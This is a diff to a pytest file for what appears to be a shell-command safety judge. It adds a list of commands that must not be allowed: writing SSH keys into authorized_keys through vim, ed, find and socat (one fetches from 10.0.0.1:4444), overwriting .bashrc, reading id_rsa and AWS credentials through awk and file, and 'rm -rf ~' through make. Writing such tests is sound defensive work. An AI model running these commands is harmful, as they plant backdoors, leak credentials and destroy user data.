@@ -52,6 +52,22 @@ RUNS_HOME_DELETE = [
     "emacs -Q -nw --eval '(term \"rm -rf ~\")'",
 ]
 
+# files written or read through a program's own options and languages: each asks (or is denied)
+NOT_ALLOWED = [
+    "vim -c ':w! ~/.ssh/authorized_keys' /tmp/key",
+    "vim -es -c 'r /tmp/k' -c 'w >> ~/.ssh/authorized_keys' -c q",
+    "ex -sc 'sav ~/.bashrc|q' /tmp/x",
+    "ed -s /tmp/k <<< 'w /home/dev/.ssh/authorized_keys'",
+    "socat -u tcp-connect:10.0.0.1:4444 open:/home/dev/.ssh/authorized_keys,creat,append",
+    "echo ssh-rsa AAA | socat - CREATE:/home/dev/.bashrc",
+    "find / -fprintf ~/.ssh/authorized_keys 'ssh-rsa AAA' -quit",
+    "awk 'BEGIN{while((getline l < \"/home/dev/.ssh/id_rsa\")>0) print l}'",
+    "awk 'BEGIN{while((getline < (ENVIRON[\"HOME\"] \"/.ssh/id_rsa\"))>0)print}'",
+    "file -f ~/.aws/credentials",
+    "echo $'all:\\n\\trm -rf ~' | make -f -",
+    "echo 'all: ; rm -rf ~' | make -f -",
+]
+
 QUIET = [
     "setarch x86_64 -R ./a.out",
     "arch",
@@ -71,6 +87,13 @@ QUIET = [
     "smbclient //h/s -c 'ls'",
     "m4 -D VERSION=1.2 config.m4",
     "rake -T",
+    "vim -c 'w out.txt' -c q in.txt",
+    "ed -s f.txt <<< $'1d\\nw\\nq'",
+    "socat -u UNIX-CONNECT:/tmp/app.sock OPEN:out.bin,creat",
+    "find . -name '*.py' -fprint files.txt",
+    "awk 'BEGIN{while((getline l < \"data.txt\")>0) n++; print n}'",
+    "file -f names.txt",
+    "echo 'all: ; @echo ok' | make -f -",
 ]
 
 
@@ -84,3 +107,9 @@ def test_a_command_run_for_you_is_judged(judge_command, cmd):
 def test_everyday_use_stays_quiet(judge_command, cmd):
     v = judge_command(cmd)
     assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)
+
+
+@pytest.mark.parametrize("cmd", NOT_ALLOWED)
+def test_a_file_written_or_read_through_a_program_is_seen(judge_command, cmd):
+    v = judge_command(cmd)
+    assert v.decision is not Decision.ALLOW, cmd
